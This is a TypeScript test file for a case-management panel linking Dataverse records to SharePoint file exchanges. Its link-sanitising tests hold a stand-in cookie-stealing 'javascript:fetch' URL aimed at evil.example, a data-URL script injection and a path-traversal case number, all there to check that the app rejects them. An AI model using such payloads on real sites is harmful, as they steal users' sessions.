import { casePanelView } from "../../../src/app/casePanelView";
import { loadCasePanel } from "../../../src/app/loadCasePanel";
import { requestFiles } from "../../../src/app/requestFiles";
import { shareDraft } from "../../../src/app/shareDraft";
import { writeNotes } from "../../../src/app/timelineNotes";
import { noteRowId } from "../../../src/domain/recordIds";
import { ExchangeDirection, ExchangeStage, FileIntegrity, IncidentState } from "../../../src/model";
import {
  agent,
  backupExchange,
  caseRecord,
  exchangeRecord,
  FakeCrm,
  FakeLibrary,
  folder,
  NOW,
  ports,
  recipient,
  settings,
  supervisor,
} from "./fakes";

const request = { email: "ana@clinic.example", role: "write" as const, message: "Please upload the files within 7 days." };

describe("requestFiles", () => {
  it("creates the folder under the upload root, invites the contact and records a shared exchange expiring in 7 days", async () => {
    const crm = new FakeCrm();
    const lib = new FakeLibrary([]);
    const out = await requestFiles(ports(crm, lib), { caseRecord, request, actor: agent, exchanges: [] });
    expect(lib.folders.has("External Data Transfer/CAS-01234-A1B2C3")).toBe(true);
    expect(lib.invites[0].request).toEqual({ recipients: ["ana@clinic.example"], role: "write", message: request.message });
    expect(out.exchange).toMatchObject({
      direction: ExchangeDirection.filesFromCustomer,
      stage: ExchangeStage.shared,
      expiresOn: new Date("2026-11-29T10:00:00Z"),
      ownerId: "u-agent",
    });
    expect(out.recipient.permissionId).toBeDefined();
    expect(crm.notes.map((n) => n.target.table)).toEqual(["cfx_fileexchange", "incident"]);
  });

  it("when SharePoint refuses the invitation, removes the folder it created and closes the request it recorded first", async () => {
    const crm = new FakeCrm();
    const lib = new FakeLibrary([]);
    lib.refuse.set("ana@clinic.example", { code: "notAllowed" });
    await expect(requestFiles(ports(crm, lib), { caseRecord, request, actor: agent, exchanges: [] })).rejects.toMatchObject({
      name: "ShareRefusedError",
    });
    expect(lib.folders.size).toBe(0);
    expect([...crm.exchanges.values()]).toEqual([expect.objectContaining({ stage: ExchangeStage.deleted, deletedOn: NOW })]);
    expect([...crm.recipients.values()]).toEqual([expect.objectContaining({ revokedOn: NOW })]);
    expect([...crm.recipients.values()][0].permissionId).toBeUndefined();
    expect(crm.notes).toEqual([]);
  });

  it("asks Dataverse for the agent's rights on the case first, and writes nothing anywhere when they may not attach to it", async () => {
    const crm = new FakeCrm();
    const lib = new FakeLibrary([]);
    crm.access.set("c1", { read: true, appendTo: false, write: false });
    await expect(requestFiles(ports(crm, lib), { caseRecord, request, actor: agent, exchanges: [] })).rejects.toMatchObject({
      name: "ValidationError",
      code: "actionNotAllowed",
      message: expect.stringContaining("CAS-01234-A1B2C3"),
    });
    expect(crm.calls).toEqual(["accessToCase"]);
    expect(lib.calls).toEqual([]);
  });

  it("adopts the folder and permission of an earlier attempt instead of inviting twice", async () => {
    const crm = new FakeCrm();
    const lib = new FakeLibrary([]);
    crm.failNext.set("createExchange", new Error("Dataverse down"));
    await expect(requestFiles(ports(crm, lib), { caseRecord, request, actor: agent, exchanges: [] })).rejects.toThrow("Dataverse down");
    await requestFiles(ports(crm, lib), { caseRecord, request, actor: agent, exchanges: [] });
    expect(lib.invites).toHaveLength(1);
    expect(crm.exchanges.size).toBe(1);
  });

  it("records one exchange when the answer to recording it was lost and the request is sent again", async () => {
    const crm = new FakeCrm();
    const lib = new FakeLibrary([]);
    crm.loseAnswer.add("createExchange");
    await expect(requestFiles(ports(crm, lib), { caseRecord, request, actor: agent, exchanges: [] })).rejects.toMatchObject({
      code: "networkError",
    });
    await requestFiles(ports(crm, lib), { caseRecord, request, actor: agent, exchanges: [] });
    expect(crm.exchanges.size).toBe(1);
    expect(crm.recipients.size).toBe(1);
    expect(lib.invites).toHaveLength(1);
    expect(crm.notes).toHaveLength(2);
  });

  it("records one exchange and one recipient when the answer to recording the recipient was lost", async () => {
    const crm = new FakeCrm();
    const lib = new FakeLibrary([]);
    crm.loseAnswer.add("addRecipient");
    await expect(requestFiles(ports(crm, lib), { caseRecord, request, actor: agent, exchanges: [] })).rejects.toMatchObject({
      code: "networkError",
    });
    const out = await requestFiles(ports(crm, lib), { caseRecord, request, actor: agent, exchanges: [] });
    expect([...crm.exchanges.keys()]).toEqual([out.exchange.id]);
    expect([...crm.recipients.values()]).toEqual([expect.objectContaining({ exchangeId: out.exchange.id })]);
    expect(lib.invites).toHaveLength(1);
  });

  it("refuses a folder that is already there when another case's exchange records it, and invites nobody", async () => {
    const crm = new FakeCrm();
    const lib = new FakeLibrary([]);
    const existing = await lib.ensureFolder("External Data Transfer/CAS-01234-A1B2C3");
    crm.caseNumbers.set("c2", "CAS-01234-A1B2C3\u200b");
    crm.exchanges.set(
      "x-other",
      backupExchange({
        id: "x-other",
        caseId: "c2",
        direction: ExchangeDirection.filesFromCustomer,
        stage: ExchangeStage.filesReceived,
        folderPath: existing.path,
        itemId: existing.itemId,
      }),
    );
    await expect(requestFiles(ports(crm, lib), { caseRecord, request, actor: agent, exchanges: [] })).rejects.toMatchObject({
      name: "ValidationError",
      code: "folderHeldByAnotherCase",
      message: expect.stringContaining("exchange of case"),
    });
    expect(lib.invites).toEqual([]);
    expect(lib.folders.has(existing.path)).toBe(true);
    // The request recorded first is closed: nothing offers to retry it or to remove the other case's folder.
    const mine = [...crm.exchanges.values()].filter((x) => x.caseId === "c1");
    expect(mine).toEqual([expect.objectContaining({ stage: ExchangeStage.deleted })]);
    expect([...crm.recipients.values()]).toEqual([expect.objectContaining({ revokedOn: NOW })]);
    expect(crm.exchanges.get("x-other")?.stage).toBe(ExchangeStage.filesReceived);
  });

  it("refuses a case number that is not a valid folder name", async () => {
    const p = requestFiles(ports(new FakeCrm(), new FakeLibrary([])), {
      caseRecord: { ...caseRecord, number: "CAS/../x" },
      exchanges: [],
      request,
      actor: agent,
    });
    await expect(p).rejects.toMatchObject({ name: "ValidationError" });
  });
});

describe("loadCasePanel", () => {
  it("reads Dynamics once and the live folders in one snapshot, skipping deleted exchanges", async () => {
    const crm = new FakeCrm();
    const lib = new FakeLibrary();
    crm.panel = {
      case: caseRecord,
      exchanges: [
        exchangeRecord(backupExchange()),
        exchangeRecord(backupExchange({ id: "x0", stage: ExchangeStage.deleted, folderPath: "old" })),
      ],
    };
    const model = await loadCasePanel(ports(crm, lib), { caseId: "c1" });
    expect(crm.calls).toEqual(["loadCasePanel"]);
    expect(lib.calls).toEqual(["snapshot"]);
    expect([...model.folders.keys()]).toEqual([folder.path]);
  });

  it("keeps Dynamics' records when SharePoint cannot be read, with the reason", async () => {
    const crm = new FakeCrm();
    const lib = new FakeLibrary();
    lib.snapshotError = { name: "GraphError", code: "accessDenied", status: 403 };
    crm.panel = { case: caseRecord, exchanges: [exchangeRecord(backupExchange())] };
    const model = await loadCasePanel(ports(crm, lib), { caseId: "c1" });
    expect(model.libraryError).toMatchObject({ code: "accessDenied" });
    expect(model.exchanges).toHaveLength(1);
  });
});

function model(over: Partial<Parameters<typeof casePanelView>[0]> = {}) {
  return { case: caseRecord, exchanges: [], folders: new Map(), loadedAt: NOW, ...over };
}

describe("casePanelView", () => {
  it("offers no link, and no Copy link, for a web URL that is not the SharePoint site's", () => {
    const evil = backupExchange({ webUrl: "javascript:fetch('https://evil.example/'+document.cookie)" });
    const v = casePanelView(model({ exchanges: [exchangeRecord(evil)] }), agent, NOW, settings);
    expect(v.exchanges[0].webUrl).toBeUndefined();
    expect(v.exchanges[0].actions).not.toContain("copyLink");
  });

  it("falls back to the folder's address SharePoint reported when the row's is not a link", () => {
    const evil = backupExchange({ webUrl: "data:text/html,<script>alert(1)</script>" });
    const v = casePanelView(
      model({
        exchanges: [exchangeRecord(evil)],
        folders: new Map([[folder.path, { path: folder.path, folder, files: [], permissions: [] }]]),
      }),
      agent,
      NOW,
      settings,
    );
    expect(v.exchanges[0].webUrl).toBe(folder.webUrl);
    expect(v.exchanges[0].actions).toContain("copyLink");
  });

  it("offers Share with customer, Copy link and Remove now on a ready backup to an agent, and Request files", () => {
    const v = casePanelView(model({ exchanges: [exchangeRecord(backupExchange())] }), agent, NOW, settings);
    expect(v.exchanges[0].actions).toEqual(["shareWithCustomer", "copyLink", "removeNow"]);
    expect(v.canRequestFiles).toBe(true);
    expect(v.recipient).toEqual({ kind: "contact", email: "ana@clinic.example", name: "Ana Berg" });
  });

  it("offers nothing to a supervisor", () => {
    const v = casePanelView(model({ exchanges: [exchangeRecord(backupExchange())] }), supervisor, NOW, settings);
    expect(v.exchanges[0].actions).toEqual([]);
    expect(v.canRequestFiles).toBe(false);
  });

  it("on a resolved case offers only what takes access away", () => {
    const v = casePanelView(
      model({
        case: { ...caseRecord, state: IncidentState.resolved },
        exchanges: [exchangeRecord(backupExchange({ stage: ExchangeStage.shared }), [recipient()])],
      }),
      agent,
      NOW,
      settings,
    );
    expect(v.inactive).toBe(true);
    expect(v.exchanges[0].actions).toEqual(["copyLink", "revokeAccess", "removeNow"]);
    expect(v.canRequestFiles).toBe(false);
  });

  it("flags access given to the contact's old address after the contact's e-mail changed", () => {
    const v = casePanelView(
      model({
        case: { ...caseRecord, contact: { id: "k1", name: "Ana Berg", email: "ana.berg@newclinic.example" } },
        exchanges: [
          exchangeRecord(backupExchange({ stage: ExchangeStage.shared }), [
            recipient(),
            recipient({ id: "r2", email: "it@x.example", reason: "IT" }),
          ]),
        ],
      }),
      agent,
      NOW,
      settings,
    );
    expect(v.exchanges[0].contactChanges.map((c) => [c.oldEmail, c.newEmail])).toEqual([
      ["ana@clinic.example", "ana.berg@newclinic.example"],
    ]);
  });

  it("joins SharePoint's files with the receipts and lists permissions given by hand", () => {
    const x = backupExchange({ stage: ExchangeStage.shared });
    const snapshot = {
      path: x.folderPath,
      folder,
      files: [
        { itemId: "f1", name: "a.docx", path: "a.docx", size: 5, createdOn: NOW, modifiedOn: NOW, webUrl: "" },
        { itemId: "f2", name: "new.txt", path: "new.txt", size: 7, createdOn: NOW, createdBy: "Ana Berg", modifiedOn: NOW, webUrl: "" },
      ],
      permissions: [
        { id: "p1", roles: ["write"], email: "ana@clinic.example", inherited: false, isLink: false },
        { id: "p9", roles: ["read"], email: "hand@other.example", inherited: false, isLink: false },
        { id: "pi", roles: ["write"], displayName: "Members", inherited: true, isLink: false },
      ],
    };
    const receipts = [
      {
        id: "rc",
        exchangeId: "x1",
        path: "a.docx",
        size: 4,
        integrity: FileIntegrity.modifiedBySharePoint,
        uploadedOn: NOW,
        uploadedByName: "Sam",
      },
    ];
    const v = casePanelView(
      model({ exchanges: [exchangeRecord(x, [recipient()], { receipts })], folders: new Map([[x.folderPath, snapshot]]) }),
      agent,
      NOW,
      settings,
    );
    expect(v.exchanges[0].files.map((f) => [f.path, f.integrity, f.uploadedBy])).toEqual([
      ["a.docx", "modifiedBySharePoint", "Sam"],
      ["new.txt", "notChecked", "Ana Berg"],
    ]);
    expect(v.exchanges[0].access.map((a) => [a.email, a.role, a.unrecorded])).toEqual([
      ["ana@clinic.example", "write", false],
      ["hand@other.example", "read", true],
    ]);
  });

  it("shows a file SharePoint flagged as malware with its warning, leaves it out of the count and size, and offers no share", () => {
    const file = (path: string, size: number, malware?: { description: string }) => ({
      itemId: path,
      name: path,
      path,
      size,
      createdOn: NOW,
      modifiedOn: NOW,
      webUrl: "",
      ...(malware ? { malware } : {}),
    });
    const view = (files: ReturnType<typeof file>[]) => {
      const x = backupExchange({ stage: ExchangeStage.backupReady });
      const snapshot = { path: x.folderPath, folder, files, permissions: [] };
      return casePanelView(
        model({ exchanges: [exchangeRecord(x, [])], folders: new Map([[x.folderPath, snapshot]]) }),
        agent,
        NOW,
        settings,
      ).exchanges[0];
    };
    const mixed = view([file("backup.zip", 100), file("setup.exe", 40, { description: "Win32/EICAR_Test_File" })]);
    expect(mixed.files.map((f) => [f.path, f.malware?.description])).toEqual([
      ["backup.zip", undefined],
      ["setup.exe", "Win32/EICAR_Test_File"],
    ]);
    expect([mixed.goodFileCount, mixed.totalBytes]).toEqual([1, 100]);
    expect(mixed.status).toMatchObject({ kind: "malwareFound", tone: "danger" });
    expect(mixed.actions).not.toContain("shareWithCustomer");
    expect(mixed.malwareRefusal).toMatch(/flagged a file of this backup as malware \(setup\.exe \(Win32\/EICAR_Test_File\)\)/);

    const only = view([file("setup.exe", 40, { description: "" })]);
    expect([only.goodFileCount, only.totalBytes]).toEqual([0, 0]);
    expect(only.actions).not.toContain("shareWithCustomer");
    expect(only.malwareRefusal).toMatch(/flagged every file of this backup as malware \(setup\.exe\)/);

    const clean = view([file("backup.zip", 100)]);
    expect(clean.actions).toContain("shareWithCustomer");
    expect(clean.status.kind).toBe("readyToShare");
    expect(clean.malwareRefusal).toBeUndefined();
  });

  it("says when there is no backup yet and when the contact has no e-mail", () => {
    const v = casePanelView(model({ case: { ...caseRecord, contact: { id: "k1", name: "Ana Berg", email: null } } }), agent, NOW, settings);
    expect(v.noBackup).toBe(true);
    expect(v.recipient).toEqual({ kind: "noEmail", name: "Ana Berg" });
  });
});

describe("shareDraft", () => {
  it("fills seed 000's message with the real days left", () => {
    const d = shareDraft(settings, { caseRecord, exchange: backupExchange(), language: "de-DE", now: NOW });
    expect(d.language).toBe("en");
    expect(d.message).toBe(
      "Kindly upload the files within 28 days. Please note that they will be automatically deleted after this period.",
    );
  });

  it("gives the template and the problem when a folder kept with no expiry cannot promise days", () => {
    const d = shareDraft(settings, { caseRecord, exchange: backupExchange({ expiresOn: null }), language: "en", now: NOW });
    expect(d.problem).toMatch(/no expiry/);
  });
});

describe("writeNotes", () => {
  it("gives a note that failed back as pending, with the reason, and writes the others", async () => {
    const crm = new FakeCrm();
    crm.noteFailures = 1;
    const a = { table: "incident" as const, id: "c1" };
    const b = { table: "cfx_fileexchange" as const, id: "x1" };
    const out = await writeNotes(crm, [
      { target: a, note: { subject: "s", text: "t" }, id: noteRowId("test:1", a) },
      { target: b, note: { subject: "s", text: "t" }, id: noteRowId("test:1", b) },
    ]);
    expect(out).toMatchObject({ written: 1, pending: [{ target: a }], error: { name: "DataverseError" } });
  });

  it("writes a note once when it is written again after its answer was lost: the same id", async () => {
    const crm = new FakeCrm();
    crm.loseAnswer.add("addNote");
    const target = { table: "incident" as const, id: "c1" };
    const note = { target, note: { subject: "s", text: "t" }, id: noteRowId("test:1", target) };
    expect((await writeNotes(crm, [note])).pending).toHaveLength(1);
    expect(await writeNotes(crm, [note])).toMatchObject({ written: 1, pending: [] });
    expect(crm.notes).toHaveLength(1);
  });
});
